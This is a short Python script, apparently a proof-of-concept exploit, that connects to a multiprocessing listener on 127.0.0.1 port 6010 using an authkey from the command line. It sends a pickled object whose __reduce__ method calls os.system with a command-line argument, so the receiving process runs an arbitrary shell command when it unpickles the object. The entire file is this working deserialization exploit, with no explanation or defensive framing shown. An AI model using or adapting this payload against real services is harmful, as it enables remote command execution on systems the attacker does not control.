import os, sys
from multiprocessing.connection import Client
class J:
    def __reduce__(self):
        return (os.system, (sys.argv[2],))
c = Client(("127.0.0.1", 6010), authkey=sys.argv[1].encode())
c.send(J())
try:
    print(c.recv())
except EOFError:
    print("closed")
